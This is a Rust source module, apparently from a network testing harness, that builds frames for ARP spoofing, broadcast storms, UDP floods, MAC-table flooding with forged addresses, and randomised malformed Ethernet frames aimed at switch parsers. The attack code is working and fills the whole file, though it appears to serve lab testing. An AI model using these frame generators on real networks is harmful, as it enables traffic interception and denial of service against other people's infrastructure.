//! The frames of an attacker, one after the other, in one buffer.

use std::net::Ipv4Addr;

use anyhow::{Context as _, Result};
use wire::frames::{self, Link};
use wire::{MacAddr, ethernet, ipv4, udp};
use wire::{Protocol, ip};

use super::{Attack, PAYLOAD_LEN, PORT};
use crate::limits::{ATTACK_FRAME_MAX, MACS_FORGED};

/// Where the addresses stand.
const DST: std::ops::Range<usize> = 0..6;
/// See [`DST`].
const SRC: std::ops::Range<usize> = 6..12;

/// Ethertypes behind which a switch looks further: IPv4, IPv6, ARP, two tags, MAC control. Half of the
/// garbage has one of them.
const PARSED: [u16; 6] = [0x0800, 0x86dd, 0x0806, 0x8100, 0x88a8, 0x8808];

/// What is different in each frame.
#[derive(Debug, Clone, Copy)]
enum Change {
    Nothing,
    Addresses,
    All,
}

/// An endless supply.
#[derive(Debug)]
pub(super) struct Frames {
    buffer: [u8; ATTACK_FRAME_MAX],
    len: usize,
    change: Change,
    random: Random,
}

impl Frames {
    /// Of a container with this MAC address and IP address. The flood of datagrams has none, since a
    /// socket makes them.
    pub(super) fn new(
        kind: Attack,
        mac: MacAddr,
        from: Ipv4Addr,
        victim: Ipv4Addr,
    ) -> Result<Self> {
        let mut buffer = [0; ATTACK_FRAME_MAX];
        let (len, change) = match kind {
            Attack::ArpSpoof => {
                let frame = frames::gratuitous_arp(mac, victim);
                buffer[..frame.len()].copy_from_slice(&frame);
                (frame.len(), Change::Nothing)
            }
            Attack::BroadcastStorm | Attack::UdpFlood => {
                (broadcast(&mut buffer, mac, from)?, Change::Nothing)
            }
            Attack::MacFlood => (broadcast(&mut buffer, mac, from)?, Change::Addresses),
            Attack::Garbage => {
                buffer[SRC].copy_from_slice(&mac.0);
                (ethernet::HEADER_LEN, Change::All)
            }
        };
        Ok(Self { buffer, len, change, random: Random(0x9e37_79b9_7f4a_7c15) })
    }

    /// The next one.
    pub(super) fn next(&mut self) -> &[u8] {
        match self.change {
            Change::Nothing => {}
            Change::Addresses => self.forge(),
            Change::All => self.scramble(),
        }
        &self.buffer[..self.len]
    }

    /// Another sender, and a receiver that nobody has: both locally administered.
    fn forge(&mut self) {
        let number = (self.random.next() % MACS_FORGED) as u32;
        let [_, high, middle, low] = number.to_be_bytes();
        self.buffer[SRC].copy_from_slice(&[0x02, 0xbe, 0xef, high, middle, low]);
        self.buffer[DST].copy_from_slice(&[0x02, 0xda, 0xda, low, high, middle]);
    }

    /// Any length from a bare header on, any kind, to everybody or to anybody; the sender is true.
    fn scramble(&mut self) {
        let draw = self.random.next();
        self.len = ethernet::HEADER_LEN
            + (draw % (ATTACK_FRAME_MAX - ethernet::HEADER_LEN + 1) as u64) as usize;
        for chunk in self.buffer[ethernet::HEADER_LEN..self.len].chunks_mut(8) {
            let bytes = self.random.next().to_be_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
        let dst = if draw & 1 << 40 == 0 { self.random.next() | 0x02 << 40 } else { u64::MAX };
        self.buffer[DST].copy_from_slice(&dst.to_be_bytes()[2..]);
        let kind = match draw >> 41 & 1 {
            0 => PARSED[(draw >> 42) as usize % PARSED.len()],
            _ => (draw >> 42) as u16,
        };
        self.buffer[12..14].copy_from_slice(&kind.to_be_bytes());
    }
}

/// A datagram to everybody, in a frame of 64 bytes with its check sequence.
fn broadcast(buffer: &mut [u8], mac: MacAddr, from: Ipv4Addr) -> Result<usize> {
    let ip = ipv4::Repr::new(from, Ipv4Addr::BROADCAST, Protocol::UDP);
    let udp = udp::Repr { src_port: PORT, dst_port: PORT };
    let link = Link::new(mac, MacAddr::BROADCAST);
    frames::udp(buffer, &link, &ip::Repr::V4(ip), &udp, &[0; PAYLOAD_LEN])
        .context("build a datagram")
}

/// Marsaglia's xorshift: quick, and good enough for rubbish.
#[derive(Debug)]
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests;
